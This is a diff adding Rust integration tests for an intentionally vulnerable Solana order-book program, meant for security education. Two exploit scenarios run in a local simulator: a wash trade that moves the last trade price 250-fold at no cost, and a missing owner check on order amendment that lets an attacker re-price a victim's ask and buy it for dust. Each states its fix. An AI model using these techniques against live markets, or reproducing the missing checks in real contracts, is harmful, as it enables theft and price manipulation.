@@ -0,0 +1,213 @@
+// Integration tests for CLOB-VULNERABLE program
+//
+// WARNING: These tests demonstrate intentional security vulnerabilities for educational purposes.
+// These exploits show what can happen when proper security checks are missing.
+//
+// HOW TO RUN THESE TESTS:
+// From the project root directory:
+//   cd programs/clob/clob-vulnerable
+//   cargo test-sbf
+//
+// Or to run a specific test:
+//   cargo test-sbf -- test_name
+//
+// Or with output logging:
+//   cargo test-sbf -- --nocapture
+
+mod utils;
+
+use litesvm::types::TransactionResult;
+use solana_sdk::signature::{Keypair, Signer};
+use soteria_test_kit::{run_exploit, ExploitInfo, ExploitScenario, Severity};
+use utils::*;
+
+// EXPLOIT: V001 - No self-trade prevention
+// Demonstrates: Wash trade moves last_trade_price at no cost
+struct SelfTrade;
+
+struct SelfTradeState {
+    scenario: ClobScenario,
+    attacker: Keypair,
+    base_before: u64,
+    quote_before: u64,
+}
+
+impl ExploitScenario for SelfTrade {
+    type State = SelfTradeState;
+
+    fn info(&self) -> ExploitInfo {
+        ExploitInfo {
+            id: "V001",
+            title: "Wash Trade - No Self-Trade Prevention",
+            severity: Severity::Medium,
+            lesson: "Reject matches where the bid and ask share an owner",
+        }
+    }
+
+    fn setup(&self) -> SelfTradeState {
+        println!("This test demonstrates how matching an owner's orders against each other");
+        println!("lets them print a trade at any price without a real counterparty.");
+        println!();
+
+        let mut scenario = setup_clob_scenario();
+        let alice = create_trader(&mut scenario);
+        let attacker = create_trader(&mut scenario);
+
+        // An honest trade sets the reference price
+        let ask_id = place_order(&mut scenario, &alice, SIDE_ASK, 2 * ONE_QUOTE, 10);
+        let bid_id = place_order(&mut scenario, &attacker, SIDE_BID, 2 * ONE_QUOTE, 10);
+        let ix = build_match_orders_ix(&alice.pubkey(), &scenario.base_mint, &scenario.quote_mint, bid_id, ask_id, &attacker.pubkey(), &alice.pubkey());
+        send_ix(&mut scenario.svm, ix, &alice).expect("Honest match should succeed");
+        println!("[Setup] Honest trade at 2 quote, last trade price = {}", get_last_trade_price(&scenario.svm, &scenario.market) / ONE_QUOTE);
+
+        let base_before = base_balance(&scenario, &attacker.pubkey());
+        let quote_before = quote_balance(&scenario, &attacker.pubkey());
+
+        SelfTradeState { scenario, attacker, base_before, quote_before }
+    }
+
+    fn exploit(&self, state: &mut SelfTradeState) -> TransactionResult {
+        let SelfTradeState { scenario, attacker, .. } = state;
+
+        println!();
+        println!("[EXPLOIT] Attacker asks 1 @ 500 and bids 1 @ 500 from the same wallet");
+        println!("[EXPLOIT] In secure version, matching them should FAIL with SelfTrade");
+
+        let wash_ask = place_order(scenario, attacker, SIDE_ASK, 500 * ONE_QUOTE, 1);
+        let wash_bid = place_order(scenario, attacker, SIDE_BID, 500 * ONE_QUOTE, 1);
+        let ix = build_match_orders_ix(&attacker.pubkey(), &scenario.base_mint, &scenario.quote_mint, wash_bid, wash_ask, &attacker.pubkey(), &attacker.pubkey());
+        send_ix(&mut scenario.svm, ix, attacker)
+    }
+
+    fn assert_impact(&self, state: &mut SelfTradeState) -> u64 {
+        let SelfTradeState { scenario, attacker, base_before, quote_before } = state;
+
+        println!();
+        println!("[RESULT] Self-match: SUCCESS");
+
+        assert_eq!(get_last_trade_price(&scenario.svm, &scenario.market), 500 * ONE_QUOTE);
+        assert_eq!(base_balance(scenario, &attacker.pubkey()), *base_before);
+        assert_eq!(quote_balance(scenario, &attacker.pubkey()), *quote_before);
+        println!("[IMPACT] Last trade price moved from 2 to 500 quote");
+        println!("[IMPACT] Attacker's balances are unchanged - the manipulation cost nothing");
+        println!("[IMPACT] Any protocol valuing collateral at last_trade_price is now 250x off");
+
+        // The damage lands on whoever reads the price, not on this market's funds
+        0
+    }
+}
+
+#[test]
+fn test_exploit_self_trade() {
+    run_exploit(&SelfTrade);
+}
+
+// EXPLOIT: V002 - Missing owner check on amend
+// Demonstrates: Attacker re-prices a victim's ask and buys it for dust
+struct AmendOtherUsersOrder;
+
+struct AmendState {
+    scenario: ClobScenario,
+    victim: Keypair,
+    attacker: Keypair,
+    victim_ask: u64,
+}
+
+impl ExploitScenario for AmendOtherUsersOrder {
+    type State = AmendState;
+
+    fn info(&self) -> ExploitInfo {
+        ExploitInfo {
+            id: "V002",
+            title: "Order Price Tampering - Missing Owner Check on Amend",
+            severity: Severity::Critical,
+            lesson: "Only an order's owner may change it: check order.owner == signer",
+        }
+    }
+
+    fn setup(&self) -> AmendState {
+        println!("This test demonstrates how amending orders without checking the owner lets");
+        println!("an attacker re-price someone else's ask and fill it themselves.");
+        println!();
+
+        let mut scenario = setup_clob_scenario();
+        let victim = create_trader(&mut scenario);
+        let attacker = create_trader(&mut scenario);
+
+        let victim_ask = place_order(&mut scenario, &victim, SIDE_ASK, 2 * ONE_QUOTE, 100);
+        println!("[Setup] Victim asks 100 base @ 2 quote (worth {} quote)", 200);
+
+        AmendState { scenario, victim, attacker, victim_ask }
+    }
+
+    fn exploit(&self, state: &mut AmendState) -> TransactionResult {
+        let AmendState { scenario, attacker, victim_ask, .. } = state;
+
+        println!();
+        println!("[EXPLOIT] Attacker amends the victim's ask to 1 quote atom");
+        println!("[EXPLOIT] In secure version, this should FAIL with Unauthorized");
+
+        let ix = build_amend_order_ix(&attacker.pubkey(), &scenario.base_mint, &scenario.quote_mint, *victim_ask, 1);
+        send_ix(&mut scenario.svm, ix, attacker)
+    }
+
+    fn assert_impact(&self, state: &mut AmendState) -> u64 {
+        let AmendState { scenario, victim, attacker, victim_ask } = state;
+        let victim_ask = *victim_ask;
+
+        println!();
+        println!("[RESULT] Amend by attacker: SUCCESS");
+        assert_eq!(get_order(&scenario.svm, &scenario.order_book, victim_ask), Some((victim.pubkey(), 1, 100)));
+
+        println!("[EXPLOIT] Attacker bids 100 @ 1 atom and cranks the match");
+        let attacker_bid = place_order(scenario, attacker, SIDE_BID, 1, 100);
+        let ix = build_match_orders_ix(&attacker.pubkey(), &scenario.base_mint, &scenario.quote_mint, attacker_bid, victim_ask, &attacker.pubkey(), &victim.pubkey());
+        send_ix(&mut scenario.svm, ix, attacker).expect("Match should succeed");
+
+        assert_eq!(base_balance(scenario, &attacker.pubkey()), TRADER_BASE_BALANCE + 100);
+        assert_eq!(quote_balance(scenario, &attacker.pubkey()), TRADER_QUOTE_BALANCE - 100);
+        assert_eq!(quote_balance(scenario, &victim.pubkey()), TRADER_QUOTE_BALANCE + 100);
+        println!("[IMPACT] Attacker received 100 base for 100 quote atoms (0.0001 quote)");
+        println!("[IMPACT] Victim sold 200 quote worth of base for 0.0001 quote");
+
+        // Victim's 100 base atoms, sold for dust
+        100
+    }
+}
+
+#[test]
+fn test_exploit_amend_other_users_order() {
+    run_exploit(&AmendOtherUsersOrder);
+}
+
+#[test]
+fn test_all_basic_operations_work() {
+    // Sanity check: the happy path still works in the vulnerable version
+    println!("\n[TEST START] test_all_basic_operations_work - Normal order lifecycle");
+
+    let mut scenario = setup_clob_scenario();
+    let alice = create_trader(&mut scenario);
+    let bob = create_trader(&mut scenario);
+
+    let ask_id = place_order(&mut scenario, &alice, SIDE_ASK, 2 * ONE_QUOTE, 100);
+    let bid_id = place_order(&mut scenario, &bob, SIDE_BID, 2 * ONE_QUOTE, 60);
+    println!("[Success] Orders placed");
+
+    let ix = build_match_orders_ix(&bob.pubkey(), &scenario.base_mint, &scenario.quote_mint, bid_id, ask_id, &bob.pubkey(), &alice.pubkey());
+    send_ix(&mut scenario.svm, ix, &bob).expect("Match should succeed");
+    assert_eq!(base_balance(&scenario, &bob.pubkey()), TRADER_BASE_BALANCE + 60);
+    assert_eq!(quote_balance(&scenario, &alice.pubkey()), TRADER_QUOTE_BALANCE + 120 * ONE_QUOTE);
+    println!("[Success] Orders matched");
+
+    let ix = build_amend_order_ix(&alice.pubkey(), &scenario.base_mint, &scenario.quote_mint, ask_id, 3 * ONE_QUOTE);
+    send_ix(&mut scenario.svm, ix, &alice).expect("Amend should succeed");
+    assert_eq!(get_order(&scenario.svm, &scenario.order_book, ask_id), Some((alice.pubkey(), 3 * ONE_QUOTE, 40)));
+    println!("[Success] Owner amended their order");
+
+    let ix = build_cancel_order_ix(&alice.pubkey(), &scenario.base_mint, &scenario.quote_mint, ask_id);
+    send_ix(&mut scenario.svm, ix, &alice).expect("Cancel should succeed");
+    assert_eq!(base_balance(&scenario, &alice.pubkey()), TRADER_BASE_BALANCE - 60);
+    println!("[Success] Remaining ask cancelled and refunded");
+
+    println!("[TEST END] test_all_basic_operations_work");
+}